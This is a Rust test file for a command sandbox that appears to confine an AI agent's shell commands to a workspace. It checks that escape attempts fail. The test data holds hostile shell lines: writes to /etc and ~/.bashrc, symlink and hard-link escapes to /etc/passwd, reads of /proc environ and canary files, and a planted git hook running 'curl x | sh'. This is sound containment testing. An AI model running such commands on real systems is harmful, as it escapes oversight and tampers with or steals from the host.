//! Writes outside the workspace, symlink escapes, reads of canaries outside it, and the
//! repository internals that stay read-only.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;

use agentd_sandbox::{CommandSpec, SandboxMode, Status};

use crate::support::{Fixture, canary_file, marker, open_dir, production_settings};

/// A directory the sandbox shows read-only: the crate's own, unless the checkout lives under a
/// path the sandbox hides by default (`/tmp`, home directories, ...), then `/srv`.
fn visible_base() -> &'static Path {
    let crate_dir = Path::new(env!("CARGO_MANIFEST_DIR"));
    let hidden = agentd_sandbox::SandboxSettings::default().hide_paths;
    if hidden.iter().any(|h| crate_dir.starts_with(h)) {
        let srv = Path::new("/srv");
        std::fs::create_dir_all(srv).unwrap();
        srv
    } else {
        crate_dir
    }
}

/// A world-writable directory outside the workspace, somewhere the sandbox shows read-only
/// (not a hidden path), with a world-writable file in it.
fn visible_outside() -> (tempfile::TempDir, std::path::PathBuf, String) {
    let dir = tempfile::Builder::new().prefix(".containment-").tempdir_in(visible_base()).unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let target = dir.path().join("target.txt");
    let content = canary_file(&target, 0o666);
    (dir, target, content)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn writes_outside_the_workspace_fail_and_change_nothing() {
    let fx = Fixture::production().await;
    let (outside, target, original) = visible_outside();
    let other_ws = fx.root.join("other-ws");
    std::fs::create_dir(&other_ws).unwrap();
    std::fs::write(other_ws.join("file"), "theirs").unwrap();
    std::os::unix::fs::chown(&other_ws, Some(65_534), Some(65_534)).unwrap();
    std::os::unix::fs::chown(other_ws.join("file"), Some(65_534), Some(65_534)).unwrap();
    let etc_file = format!("/etc/{}", marker("write"));
    let usr_file = format!("/usr/local/{}", marker("write"));
    std::fs::write(fx.ws.join("mine"), "movable").unwrap();

    let o = outside.path().display();
    let t = target.display();
    let w = other_ws.display();
    let line = format!(
        "echo pwned > {t}; echo pwned >> {t}; echo new > {o}/new; touch {etc_file} {usr_file}; \
         echo pwned > {w}/file; echo new > {w}/new; echo x > ../other-ws/file; \
         echo x > ~/.bashrc; echo x > /root/.bashrc; mv mine {o}/moved; \
         ln /etc/passwd hard-passwd; mknod dev c 1 3; mkdir /opt/{}; \
         echo inside > inside.txt; echo done",
        marker("dir")
    );
    let out = fx.sh(&line).await;
    assert_eq!(out.status, Status::Exited { code: 0 }, "{}", out.output.text());
    let text = out.output.text();
    assert!(text.contains("done"), "{text}");

    assert_eq!(std::fs::read_to_string(&target).unwrap(), original, "the outside file changed");
    assert!(!outside.path().join("new").exists());
    assert!(!outside.path().join("moved").exists());
    assert!(!Path::new(&etc_file).exists() && !Path::new(&usr_file).exists());
    assert_eq!(std::fs::read_to_string(other_ws.join("file")).unwrap(), "theirs");
    assert!(!other_ws.join("new").exists());
    assert!(!fx.ws.join("hard-passwd").exists(), "hard link to /etc/passwd was made");
    assert!(!fx.ws.join("dev").exists(), "mknod worked");
    assert!(fx.ws.join("mine").exists(), "the workspace file was moved out");
    assert_eq!(std::fs::read_to_string(fx.ws.join("inside.txt")).unwrap(), "inside\n");
    assert_eq!(std::fs::metadata(fx.ws.join("inside.txt")).unwrap().uid(), 65_534);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn symlinks_out_of_the_workspace_do_not_carry_writes_outside() {
    let fx = Fixture::production().await;
    let (outside, target, original) = visible_outside();
    let hidden_target = fx.root.join("hidden-target.txt");
    let hidden_original = canary_file(&hidden_target, 0o666);
    // Links planted before the command (as if by an earlier step), and made by the command.
    std::os::unix::fs::symlink(&target, fx.ws.join("planted")).unwrap();
    std::os::unix::fs::symlink(outside.path(), fx.ws.join("planted-dir")).unwrap();
    std::os::unix::fs::symlink(&hidden_target, fx.ws.join("planted-hidden")).unwrap();
    let line = format!(
        "echo pwned > planted; echo pwned > planted-dir/new; echo pwned > planted-hidden; \
         ln -s {o} made-dir; echo pwned > made-dir/made; ln -s {t} made; echo pwned >> made; \
         cp /etc/hostname planted; echo done",
        o = outside.path().display(),
        t = target.display()
    );
    let out = fx.sh(&line).await;
    assert!(out.output.text().contains("done"), "{}", out.output.text());
    assert_eq!(std::fs::read_to_string(&target).unwrap(), original);
    assert_eq!(std::fs::read_to_string(&hidden_target).unwrap(), hidden_original);
    assert!(!outside.path().join("new").exists());
    assert!(!outside.path().join("made").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn canaries_outside_the_workspace_cannot_be_read() {
    let fx = Fixture::production().await;
    // Under /tmp (hidden), in the data directory (hidden), and a root-only file in a place the
    // sandbox shows read-only (file permissions).
    let tmp = tempfile::tempdir().unwrap();
    open_dir(tmp.path());
    let in_tmp = tmp.path().join("canary.txt");
    let in_data = fx.data_dir.join("agentd.db");
    let (outside, _, _) = visible_outside();
    let root_only = outside.path().join("root-only.txt");
    let canaries =
        [canary_file(&in_tmp, 0o644), canary_file(&in_data, 0o644), canary_file(&root_only, 0o600)];
    let paths = [&in_tmp, &in_data, &root_only];
    let line = format!(
        "for f in {}; do cat $f; done; ls -la {} {}; cat /proc/$PPID/environ; echo done",
        paths.map(|p| p.display().to_string()).join(" "),
        tmp.path().display(),
        fx.data_dir.display()
    );
    let out = fx.sh(&line).await;
    let text = out.output.text();
    assert!(text.contains("done"), "{text}");
    for canary in &canaries {
        assert!(!text.contains(canary.as_str()), "canary leaked: {text}");
    }

    // The same command without the sandbox does read them: the probe can see a leak.
    drop(fx);
    let unsandboxed = Fixture::with_settings(|data| agentd_sandbox::SandboxSettings {
        mode: SandboxMode::None,
        ..production_settings(data)
    })
    .await;
    let out = unsandboxed.sh(&line).await;
    assert!(out.output.text().contains(canaries[0].as_str()), "{}", out.output.text());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn git_hooks_and_config_stay_read_only() {
    let fx = Fixture::production().await;
    std::fs::create_dir(fx.ws.join(".git")).unwrap();
    std::fs::write(fx.ws.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    std::fs::write(fx.ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let out = fx
        .sh("echo 'curl x | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
             printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config; rm -rf .git/hooks; \
             mv .git/config .git/config.old; echo 'ref: refs/heads/dev' > .git/HEAD; echo done")
        .await;
    assert!(out.output.text().contains("done"), "{}", out.output.text());
    assert!(fx.ws.join(".git/hooks").is_dir());
    assert_eq!(
        std::fs::read_dir(fx.ws.join(".git/hooks")).unwrap().count(),
        0,
        "a hook was written"
    );
    assert_eq!(
        std::fs::read_to_string(fx.ws.join(".git/config")).unwrap(),
        "[core]\n\tbare = false\n"
    );
    // The rest of the repository stays writable.
    assert_eq!(std::fs::read_to_string(fx.ws.join(".git/HEAD")).unwrap(), "ref: refs/heads/dev\n");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_system_directory_as_workspace_is_denied_and_nothing_runs() {
    let fx = Fixture::production().await;
    fx.require_available();
    for ws in ["/etc", "/", "/usr/lib"] {
        let spec = CommandSpec::shell("touch /tmp/should-not-exist", ws);
        let out = fx.sandbox.run(spec).await.unwrap();
        assert!(matches!(out.status, Status::SandboxDenied { .. }), "{ws}: {:?}", out.status);
        assert_eq!(out.output.total_bytes, 0);
    }
    let link = fx.root.join("link-to-ws");
    std::os::unix::fs::symlink(&fx.ws, &link).unwrap();
    let out = fx.sandbox.run(CommandSpec::shell("touch ran", &link)).await.unwrap();
    assert!(matches!(out.status, Status::SandboxDenied { .. }), "{:?}", out.status);
    assert!(!fx.ws.join("ran").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workspace_the_sandbox_uid_cannot_reach_is_denied_with_the_directory_named() {
    let fx = Fixture::production().await;
    fx.require_available();
    let closed = fx.root.join("closed");
    let ws = closed.join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::set_permissions(&closed, std::fs::Permissions::from_mode(0o700)).unwrap();
    let out = fx.sandbox.run(CommandSpec::shell("touch ran", &ws)).await.unwrap();
    let Status::SandboxDenied { reason } = &out.status else { panic!("{:?}", out.status) };
    assert!(reason.contains(&closed.display().to_string()) && reason.contains("o+x"), "{reason}");
    assert!(!ws.join("ran").exists());
    // Searchable but not listable is enough.
    std::fs::set_permissions(&closed, std::fs::Permissions::from_mode(0o711)).unwrap();
    let out = fx.sandbox.run(CommandSpec::shell("touch ran", &ws)).await.unwrap();
    assert_eq!(out.status, Status::Exited { code: 0 }, "{}", out.output.text());
    assert!(ws.join("ran").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_command_bubblewrap_cannot_set_up_is_denied_and_does_not_run() {
    // A hidden file behind a directory the sandbox uid cannot enter: bubblewrap fails to mount
    // over it, before the command starts.
    let parent =
        tempfile::Builder::new().prefix(".containment-").tempdir_in(visible_base()).unwrap();
    let closed = parent.path().join("closed");
    let secret = closed.join("secret");
    let hidden = secret.clone();
    let settings = move |data: &Path| {
        let mut settings = production_settings(data);
        settings.hide_paths.push(hidden);
        settings
    };
    let make_closed = || {
        std::fs::create_dir(&closed).unwrap();
        canary_file(&secret, 0o600);
        std::fs::set_permissions(&closed, std::fs::Permissions::from_mode(0o700)).unwrap();
    };

    // Present at start-up: the probe's trial fails and the sandbox is unavailable, saying why.
    make_closed();
    let fx = Fixture::with_settings(settings.clone()).await;
    let reasons = fx.sandbox.capabilities().reasons.join("; ");
    assert!(!fx.sandbox.is_available());
    assert!(reasons.contains("trial command failed: bwrap: "), "{reasons}");
    drop(fx);

    // Appearing later: that command is denied.
    std::fs::remove_dir_all(&closed).unwrap();
    let fx = Fixture::with_settings(settings).await;
    make_closed();
    let out = fx.sh("touch ran").await;
    let Status::SandboxDenied { reason } = &out.status else {
        panic!("{:?}: {}", out.status, out.output.text())
    };
    assert!(reason.starts_with("bwrap: "), "{reason}");
    assert!(!fx.ws.join("ran").exists());
}
